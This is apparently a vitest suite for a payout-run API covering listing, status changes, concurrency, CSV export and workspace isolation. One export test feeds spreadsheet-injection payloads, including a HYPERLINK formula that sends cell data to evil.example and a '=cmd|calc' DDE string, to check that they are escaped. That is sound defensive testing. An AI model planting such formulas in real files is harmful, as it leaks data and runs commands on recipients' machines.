import Papa from 'papaparse'
import { describe, expect, inject, test } from 'vitest'
import { newId } from '../../lib/db/ids.ts'
import { errorShape, send, useDatabase } from '../support/merchant.ts'
import { openPages } from '../support/pages.ts'
import { createOwing, lookAtLedger, type Owing } from '../support/runs.ts'
import { everyNth, isExhaustive } from '../support/thorough.ts'

const database = useDatabase()

type Row = Record<string, unknown> & { id: string; status: string }
type List = { data: Row[]; nextCursor: string | null }

/** The manager's calls, with a run of the merchant. */
const createRun = async () => {
  const merchant = await createOwing()
  const as = await merchant.asManager()
  const id = await merchant.begin()
  const path = `/payout-runs/${id}`
  return {
    merchant,
    as,
    id,
    path,
    to: (status: unknown) => as.patch(path, { status }),
    ledger: () => lookAtLedger(database, merchant),
    /** What was done with the run since it was begun. */
    audit: async () =>
      (await database.audit(merchant)).filter(
        ({ action, subject_id }) => subject_id === id && action !== 'payout_run.begun',
      ),
    mails: () =>
      database.query<{ recipient: string; details: Record<string, string> }>(
        `select recipient, details from mails where workspace_id = $1 and kind = 'payout_sent' order by recipient`,
        [merchant.workspace.id],
      ),
  }
}

const ALL = 817_050

describe('GET /payouts and /payout-runs', () => {
  test('show what a run pays to whom', async () => {
    const { merchant, as, id } = await createRun()
    const { data, nextCursor } = (await as.get('/payouts')).body as unknown as List
    expect(nextCursor).toBeNull()
    expect(data.map(({ amountCents }) => amountCents).sort()).toEqual([5_050, 812_000])
    expect(data[0]).toEqual({
      id: expect.any(String),
      reference: 'PO-000002',
      bankStatus: null,
      runId: id,
      partnerId: expect.any(String),
      programId: merchant.programId,
      currency: 'USD',
      amountCents: expect.any(Number),
      status: 'processing',
      method: 'manual',
      createdAt: expect.any(String),
      paidAt: null,
      failedAt: null,
      cancelRequestedAt: null,
      lookedUpUntil: null,
      canceledAt: null,
      lastError: null,
      transferId: null,
      reversedCents: 0,
      reversedAt: null,
      releasedAt: null,
      unreachableSince: null,
      resolvedAt: null,
      resolutionReason: null,
      foundTransferId: null,
      returnedAt: null,
      returnReason: null,
    })
    expect((await as.get(`/payouts/${data[0]?.id}`)).body).toEqual(data[0])

    const run = {
      id,
      method: 'manual',
      programId: null,
      status: 'processing',
      createdBy: 'somebody@shop.example',
      scheduledFor: null,
      sendsAt: null,
      createdAt: expect.any(String),
      claimedAt: expect.any(String),
      previewedAt: null,
      expected: null,
      excludePartnerIds: [],
      excludeCommissionIds: [],
      maxAmountCents: {},
      needsApproval: false,
      firstApprovedAt: null,
      firstApprovedBy: null,
      approvedAt: null,
      approvedBy: null,
      declinedAt: null,
      declinedBy: null,
      markedPaidAt: null,
      confirmedAt: null,
      canceledAt: null,
      counts: { sent: 0, failed: 0, canceled: 0, waiting: 2 },
      totals: [{ currency: 'USD', status: 'processing', payouts: 2, amountCents: ALL }],
    }
    expect((await as.get(`/payout-runs/${id}`)).body).toEqual(run)
    expect((await as.get('/payout-runs')).body).toEqual({ data: [run], nextCursor: null })
  })

  test('a commission names the payout that has taken it, and is what that is', async () => {
    const { merchant, as, to } = await createRun()
    const [payout] = ((await as.get('/payouts')).body as unknown as List).data
    const commissions = async (status: string) => {
      const { body } = await merchant.get(
        `/commissions?status=${status}&partnerId=${payout?.partnerId}`,
      )
      return (body as unknown as List).data.map((row) => [row.status, row.payoutId])
    }
    expect(await commissions('processing')).toEqual([['processing', payout?.id]])
    await to('paid')
    expect(await commissions('processing')).toEqual([])
    expect(await commissions('paid')).toEqual([['paid', payout?.id]])
    await to('processing')
    await to('canceled')
    expect(await commissions('payable')).toEqual([['payable', null]])
  })

  test('filter by run, partner and status, and go page by page', async () => {
    const { merchant, as, id } = await createRun()
    const empty = await merchant.begin()
    const list = async (query: string) =>
      (await as.get(`/payouts?${query}`)).body as unknown as List
    const [first] = (await list('limit=1')).data
    const rest = await list(`limit=1&cursor=${first?.id}`)
    expect([rest.data.length, rest.nextCursor]).toEqual([1, null])
    expect(rest.data[0]?.id).not.toBe(first?.id)

    expect((await list(`runId=${id}`)).data).toHaveLength(2)
    expect((await list(`runId=${empty}`)).data).toEqual([])
    expect((await list(`partnerId=${first?.partnerId}`)).data).toEqual([first])
    expect((await list('status=processing')).data).toHaveLength(2)
    await as.patch(`/payout-runs/${id}`, { status: 'canceled' })
    expect((await list('status=processing')).data).toEqual([])
    expect((await list('status=canceled')).data).toHaveLength(2)
    for (const query of ['status=sent', 'runId=x', 'partnerId=', 'limit=0']) {
      expect(await as.get(`/payouts?${query}`)).toMatchObject({
        status: 400,
        body: errorShape('invalid_query'),
      })
    }
    const runs = (await as.get('/payout-runs?limit=1')).body as unknown as List
    expect(runs.data[0]).toMatchObject({ id: empty, totals: [] })
    expect(
      ((await as.get(`/payout-runs?cursor=${runs.nextCursor}`)).body as unknown as List).data,
    ).toEqual([expect.objectContaining({ id })])
  })

  test('a run by Stripe is completed, with counts, once nothing of it is on its way: it is not paid if all has failed', async () => {
    const merchant = await createOwing()
    const as = await merchant.asManager()
    const account = `acct_${newId().slice(-12)}`
    await database.query(
      `insert into payout_accounts (id, workspace_id, email, country, stripe_account_id, status, created_at)
       select gen_random_uuid(), workspace_id, email, 'DE', $2 || slug, 'enabled', now() - interval '4 days' from partners
       where workspace_id = $1`,
      [merchant.workspace.id, account],
    )
    const id = await merchant.begin('stripe')
    const run = async () => (await as.get(`/payout-runs/${id}`)).body
    expect(await run()).toMatchObject({ method: 'stripe', status: 'processing' })
    await database.query(
      `update payouts set paid_at = now(), transfer_id = 'tr_' || id where run_id = $1 and amount_cents = 5050`,
      [id],
    )
    expect((await run()).status).toBe('processing')
    await database.query(
      `with failed as (update payouts set failed_at = now(), last_error = 'The account was closed.'
                       where run_id = $1 and amount_cents = 812000 returning id)
       update commissions set payout_id = null from failed where payout_id = failed.id`,
      [id],
    )
    expect(await run()).toMatchObject({
      status: 'completed',
      counts: { sent: 1, failed: 1, canceled: 0, waiting: 0 },
      totals: [
        { currency: 'USD', status: 'failed', payouts: 1, amountCents: 812_000 },
        { currency: 'USD', status: 'paid', payouts: 1, amountCents: 5_050 },
      ],
    })
    const [failed] = ((await as.get('/payouts?status=failed')).body as unknown as List).data
    expect(failed).toMatchObject({
      lastError: 'The account was closed.',
      failedAt: expect.any(String),
    })
    for (const status of ['paid', 'processing', 'confirmed', 'canceled']) {
      expect(await as.patch(`/payout-runs/${id}`, { status })).toMatchObject({ status: 409 })
    }
    expect(await as.get(`/payout-runs/${id}/export`)).toMatchObject({
      status: 409,
      body: errorShape('conflict'),
    })
    expect(await lookAtLedger(database, merchant)).toEqual({
      paid: 5_050,
      payable: 812_000,
      violations: [],
    })
  })
})

describe('the review of a scheduled run', () => {
  /** A scheduled run with all payouts, which are sent tomorrow. */
  const createReview = async () => {
    const merchant = await createOwing()
    await database.query(
      `insert into payout_accounts (id, workspace_id, email, country, stripe_account_id, status, created_at)
       select gen_random_uuid(), workspace_id, email, 'DE', $2 || slug, 'enabled', now() - interval '4 days' from partners
       where workspace_id = $1`,
      [merchant.workspace.id, `acct_${newId().slice(-12)}`],
    )
    const id = await merchant.begin('stripe')
    await database.query(
      `with run as (update payout_runs set sends_at = now() + interval '1 day', scheduled_for = now(), created_by = null
                    where id = $1 returning id, sends_at)
       update payouts set next_attempt_at = sends_at from run where run_id = run.id`,
      [id],
    )
    const as = await merchant.asManager()
    const due = () =>
      database.query(`select from payouts where run_id = $1 and next_attempt_at <= now()`, [id])
    return { merchant, id, as, path: `/payout-runs/${id}`, due }
  }

  test('can be ended by a manager, which sends the run, once', async () => {
    const { merchant, as, id, path, due } = await createReview()
    expect((await as.get(path)).body).toMatchObject({
      status: 'review',
      sendsAt: expect.any(String),
      counts: { sent: 0, failed: 0, canceled: 0, waiting: 2 },
    })
    const pages = await openPages(merchant)
    const page = await pages.get(`/payouts/runs/${id}`)
    expect(page.text).toContain('This run is in review.')
    expect(page.html).toContain(`/payouts/runs/${id}/send`)
    expect(await due()).toHaveLength(0)
    for (const _ of ['once', 'twice']) {
      expect(await as.post(`${path}/send`, {})).toMatchObject({
        status: 200,
        body: { status: 'processing' },
      })
    }
    expect(await due()).toHaveLength(2)
    const audit = (await database.audit(merchant)).map(({ action }) => action)
    expect(audit.filter((action) => action === 'payout_run.review_ended')).toHaveLength(1)
    const manual = await merchant.begin()
    expect((await as.post(`/payout-runs/${manual}/send`, {})).status).toBe(409)
  })

  test('can be used to stop the run: its commissions are payable again, and it is not sent', async () => {
    const { merchant, as, path, id } = await createReview()
    const pages = await openPages(merchant)
    await pages.post(`/payouts/runs/${id}`, { status: 'canceled' })
    expect((await as.get(path)).body).toMatchObject({
      status: 'canceled',
      counts: { canceled: 2, waiting: 0 },
    })
    expect((await as.post(`${path}/send`, {})).status).toBe(409)
    expect(await lookAtLedger(database, merchant)).toEqual({ payable: ALL, violations: [] })
  })
})

describe('PATCH /payout-runs/:id', () => {
  const PAYABLE = { payable: ALL, violations: [] }
  const ON_ITS_WAY = { processing: ALL, violations: [] }
  const PAID = { paid: ALL, violations: [] }

  test.each([
    { steps: ['paid'], ends: PAID, mails: 0 },
    { steps: ['paid', 'processing'], ends: ON_ITS_WAY, mails: 0 },
    { steps: ['paid', 'processing', 'paid'], ends: PAID, mails: 0 },
    { steps: ['paid', 'confirmed'], ends: PAID, mails: 2 },
    { steps: ['paid', 'processing', 'canceled'], ends: PAYABLE, mails: 0 },
    { steps: ['canceled'], ends: PAYABLE, mails: 0 },
  ])('goes by $steps, and a repeat of each does nothing', async ({ steps, ends, mails }) => {
    const run = await createRun()
    for (const status of steps) {
      for (let time = 0; time < 2; time++) {
        const answer = await run.to(status)
        expect(answer).toMatchObject({ status: 200, body: { id: run.id, status } })
      }
    }
    expect(await run.ledger()).toEqual(ends)
    expect(await run.mails()).toHaveLength(mails)
    expect(await run.audit()).toHaveLength(steps.length)
  })

  test.each(
    everyNth(2, [
      { from: [], to: 'confirmed', words: 'Mark this run as paid before' },
      { from: ['paid'], to: 'canceled', words: 'Undo that first' },
      { from: ['paid', 'confirmed'], to: 'processing', words: 'can no longer be changed' },
      { from: ['paid', 'confirmed'], to: 'canceled', words: 'can no longer be changed' },
      { from: ['paid', 'confirmed'], to: 'paid', words: 'can no longer be changed' },
      { from: ['canceled'], to: 'paid', words: 'start another run' },
      { from: ['canceled'], to: 'processing', words: 'start another run' },
      { from: ['canceled'], to: 'confirmed', words: 'start another run' },
    ]),
  )(
    'after $from, $to is a conflict, and changes nothing',
    { tags: 'sampled' },
    async ({ from, to, words }) => {
      const run = await createRun()
      for (const status of from) await run.to(status)
      const before = await run.ledger()
      const answer = await run.to(to)
      expect(answer).toMatchObject({ status: 409, body: errorShape('conflict') })
      expect(answer.body.error?.message).toContain(words)
      expect(await run.ledger()).toEqual(before)
      expect(await run.audit()).toHaveLength(from.length)
    },
  )

  test('waits until the run has claimed all', async () => {
    const merchant = await createOwing()
    const as = await merchant.asManager()
    const id = await merchant.begin('manual', { isClaimed: false })
    for (const status of ['paid', 'confirmed']) {
      const answer = await as.patch(`/payout-runs/${id}`, { status })
      expect(answer).toMatchObject({ status: 409, body: errorShape('conflict') })
      expect(answer.body.error?.message).toContain('still being created')
    }
    expect((await as.patch(`/payout-runs/${id}`, { status: 'processing' })).status).toBe(200)
    const file = await as.get(`/payout-runs/${id}/export`)
    expect([file.status, file.body.error?.message]).toEqual([
      409,
      expect.stringContaining('still being created'),
    ])
  })

  test('cancels a run that is still claiming, which then claims nothing more', async () => {
    const merchant = await createOwing()
    const as = await merchant.asManager()
    const id = await merchant.begin('manual', { isClaimed: false })
    expect((await as.patch(`/payout-runs/${id}`, { status: 'canceled' })).body).toMatchObject({
      status: 'canceled',
      claimedAt: expect.any(String),
    })
    expect(await lookAtLedger(database, merchant)).toEqual({ payable: ALL, violations: [] })
  })

  test('notifies the partners when it is confirmed, and not before', async () => {
    const run = await createRun()
    await run.to('paid')
    expect(await run.mails()).toEqual([])
    await run.to('confirmed')
    const portalUrl = `${inject('baseUrl')}/portal`
    const about = { programName: 'A program', method: 'manual', portalUrl }
    expect(await run.mails()).toEqual([
      {
        recipient: 'ann@partner.example',
        details: { ...about, partnerName: 'Ann', amount: '50.50 USD' },
      },
      {
        recipient: 'leo@partner.example',
        details: { ...about, partnerName: 'Leo Okafor', amount: '8,120.00 USD' },
      },
    ])
    expect(await run.audit()).toMatchObject([
      { action: 'payout_run.marked_paid', subject_id: run.id, details: { payouts: 2 } },
      { action: 'payout_run.confirmed', subject_id: run.id, details: { payouts: 2 } },
    ])
  })

  test('what was canceled goes with the next run', async () => {
    const run = await createRun()
    await run.to('canceled')
    const next = await run.merchant.begin()
    const { body } = await run.as.get(`/payout-runs/${next}`)
    expect(body.totals).toEqual([
      { currency: 'USD', status: 'processing', payouts: 2, amountCents: ALL },
    ])
    expect(await run.ledger()).toEqual(ON_ITS_WAY)
  })

  test('an undo and a confirmation at once: one of them counts', async () => {
    for (let round = 0; round < 4; round++) {
      const run = await createRun()
      await run.to('paid')
      const answers = await Promise.all([
        run.to('processing'),
        run.to('confirmed'),
        run.to('processing'),
      ])
      const [undone, confirmed] = answers.map(({ status }) => status)
      expect([undone, confirmed]).toContain(409)
      const isConfirmed = confirmed === 200
      expect(await run.ledger()).toEqual(isConfirmed ? PAID : ON_ITS_WAY)
      expect(await run.mails()).toHaveLength(isConfirmed ? 2 : 0)
      expect((await run.audit()).map(({ action }) => action)).toEqual([
        'payout_run.marked_paid',
        isConfirmed ? 'payout_run.confirmed' : 'payout_run.unmarked',
      ])
    }
  })

  test('ten markings and ten cancelings at once do one thing once', async () => {
    const run = await createRun()
    const answers = await Promise.all(
      Array.from({ length: 20 }, (_, index) => run.to(index % 2 ? 'paid' : 'canceled')),
    )
    expect(answers.filter(({ status }) => status === 200)).toHaveLength(10)
    expect(answers.filter(({ status }) => status === 409)).toHaveLength(10)
    expect(await run.audit()).toHaveLength(1)
    expect((await run.ledger()).violations).toEqual([])
  })

  test.each([
    {},
    { status: 'sent' },
    { status: null },
    { status: ['paid'] },
    { status: 'paid', force: true },
  ])('refuses %j', async (body) => {
    const merchant = await createOwing()
    const as = await merchant.asManager()
    const id = await merchant.begin()
    expect(await as.patch(`/payout-runs/${id}`, body)).toMatchObject({
      status: 400,
      body: errorShape('invalid_body'),
    })
  })
})

describe('GET /payout-runs/:id/export', () => {
  const download = (merchant: Owing, id: string) =>
    send(
      `${inject('baseUrl')}/api/workspaces/${merchant.workspace.slug}/payout-runs/${id}/export`,
      {
        headers: { Cookie: merchant.cookie },
      },
    )

  test('is a CSV file of what is to be paid to whom', async () => {
    const { merchant, id } = await createRun()
    const { status, headers, body } = await download(merchant, id)
    expect(status).toBe(200)
    expect(headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present')
    expect(headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="payouts-\d{4}-\d\d-\d\d-[0-9a-f]{12}\.csv"$/,
    )
    const lines = String(body.text).split('\r\n')
    expect(lines[0]).toBe(
      '"payout id","partner name","e-mail","currency","amount","program","run","reference","pay by"',
    )
    expect(lines.slice(1).sort()).toEqual([
      '',
      expect.stringMatching(
        new RegExp(
          `^"[0-9a-f-]{36}",.*,"USD",.*,"A program","${id}","PO-00000[12]","details_missing"$`,
        ),
      ),
      expect.stringMatching(
        /,"(Ann","ann|Leo Okafor","leo)@partner\.example","USD","(50\.50|8120\.00)",/,
      ),
    ])
  })

  test('says what it says, and nothing that a spreadsheet would run', async () => {
    const names = [
      '=HYPERLINK("https://evil.example?"&A1,"Click")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      'O’Neil, "The" Größe 🎉',
      ' =1+1',
      "'quoted'",
    ]
    const rows = names.map((name, index) => ({
      email: `p${index}@partner.example`,
      name,
      slug: `p${index}`,
      openingBalanceCents: 100 + index,
    }))
    const merchant = await createOwing(rows, { program: { name: '=cmd|calc' } })
    // The import takes no such characters, but rows may come by other ways.
    await database.query(
      `update partners set name = E'\\t=1+1\\r\\n=2' where workspace_id = $1 and slug = 'p5'`,
      [merchant.workspace.id],
    )
    const { body } = await download(merchant, await merchant.begin())
    const { data } = Papa.parse<string[]>(String(body.text).trimEnd())
    const shown = Object.fromEntries(data.slice(1).map((cells) => [cells[2], cells[1]]))
    expect(shown).toEqual({
      'p0@partner.example': `'${names[0]}`,
      'p1@partner.example': "'+1+1",
      'p2@partner.example': "'-2+3",
      'p3@partner.example': "'@SUM(A1)",
      'p4@partner.example': names[4],
      'p5@partner.example': "'\t=1+1\r\n=2",
      'p6@partner.example': "'quoted'",
    })
    expect(new Set(data.slice(1).map((cells) => cells[5]))).toEqual(new Set(["'=cmd|calc"]))
    expect(
      data
        .slice(1)
        .flat()
        .filter((cell) => /^[=+\-@\t\r]/.test(cell)),
    ).toEqual([])
  })

  test('amounts are written as their currency is', async () => {
    const { merchant, id } = await createRun()
    await database.query(
      `with partner as (select * from partners where workspace_id = $1 and slug = 'ann')
       insert into payouts (id, workspace_id, run_id, program_id, partner_id, currency, amount_cents, created_at,
                            next_attempt_at)
       select gen_random_uuid(), $1, $2, program_id, id, x.currency, 1234567, now(), now()
       from partner, unnest(array['JPY', 'KWD', 'EUR']) as x(currency)`,
      [merchant.workspace.id, id],
    )
    const { text } = (await download(merchant, id)).body
    for (const amount of ['"JPY","1234567"', '"KWD","1234.567"', '"EUR","12345.67"'])
      expect(text).toContain(`,${amount},`)
  })

  test('nothing is to be paid from a run that was canceled', async () => {
    const { merchant, to, id } = await createRun()
    await to('canceled')
    expect(await download(merchant, id)).toMatchObject({
      status: 409,
      body: errorShape('conflict'),
    })
  })
})

/** More than one read of the export gives. */
const MANY = isExhaustive ? 10_000 : 5_500

describe('a run of thousands of payouts', { tags: 'thorough' }, () => {
  const createLarge = async (payouts: number) => {
    const merchant = await createOwing([])
    const { workspace, programId } = merchant
    const id = newId()
    await database.query(
      `insert into payout_runs (id, workspace_id, method, cutoff_at, created_by, created_at, claimed_at)
       values ($1, $2, 'manual', now(), 'somebody@shop.example', now(), now())`,
      [id, workspace.id],
    )
    await database.query(
      `with partner as (
         insert into partners (id, workspace_id, program_id, email, name, slug, slug_key)
         select gen_random_uuid(), $1, $2, 'n' || n || '@partner.example', 'Number ' || n, 'n' || n, 'n' || n
         from generate_series(1, ${payouts}) n returning *
       ), payout as (
         insert into payouts (id, workspace_id, run_id, program_id, partner_id, currency, amount_cents, created_at,
                              next_attempt_at)
         select gen_random_uuid(), $1, $3, $2, id, 'USD', 1234, now(), now() from partner returning *
       )
       insert into commissions (id, workspace_id, program_id, partner_id, kind, amount_cents, currency,
                                payable_at, created_at, payout_id)
       select gen_random_uuid(), $1, $2, partner_id, 'opening_balance', 1234, 'USD', now(), now(), id
       from payout`,
      [workspace.id, programId, id],
    )
    return { merchant, as: await merchant.asManager(), id, path: `/payout-runs/${id}` }
  }

  test('is exported whole, marked paid, and confirmed', async () => {
    const { merchant, as, path } = await createLarge(MANY)
    const { body } = await as.get(`${path}/export`)
    expect(String(body.text).trimEnd().split('\r\n')).toHaveLength(MANY + 1)
    for (const status of ['paid', 'confirmed']) {
      expect(await as.patch(path, { status })).toMatchObject({ status: 200, body: { status } })
    }
    // Taken out again, or they would keep the mailer of all tests busy.
    const mails = await database.query(
      `delete from mails where workspace_id = $1 and kind = 'payout_sent' returning id`,
      [merchant.workspace.id],
    )
    expect(mails).toHaveLength(MANY)
  })

  test('is canceled', async () => {
    const many = isExhaustive ? MANY : 1_000
    const { merchant, as, path } = await createLarge(many)
    // In pages: what one request does not manage in its time, the next one continues.
    const cancel = async () => (await as.patch(path, { status: 'canceled' })).body.status
    let status = await cancel()
    while (status === 'canceling') status = await cancel()
    expect(status).toBe('canceled')
    expect(await lookAtLedger(database, merchant)).toEqual({
      payable: 1_234 * many,
      violations: [],
    })
  })
})

test('ids of another workspace are nobody’s', async () => {
  const [ours, theirs] = await Promise.all([createRun(), createRun()])
  const [payout] = ((await theirs.as.get('/payouts')).body as unknown as List).data
  for (const id of [theirs.id, newId(), 'x', '%00']) {
    for (const answer of [
      await ours.as.get(`/payout-runs/${id}`),
      await ours.as.get(`/payout-runs/${id}/export`),
      await ours.as.patch(`/payout-runs/${id}`, { status: 'paid' }),
    ]) {
      expect(answer).toMatchObject({ status: 404, body: errorShape('not_found') })
    }
  }
  expect((await ours.as.get(`/payouts/${payout?.id}`)).status).toBe(404)
  for (const query of [`runId=${theirs.id}`, `partnerId=${payout?.partnerId}`]) {
    expect(((await ours.as.get(`/payouts?${query}`)).body as unknown as List).data).toEqual([])
  }
  expect((await theirs.as.get(`/payout-runs/${theirs.id}`)).body.status).toBe('processing')
})
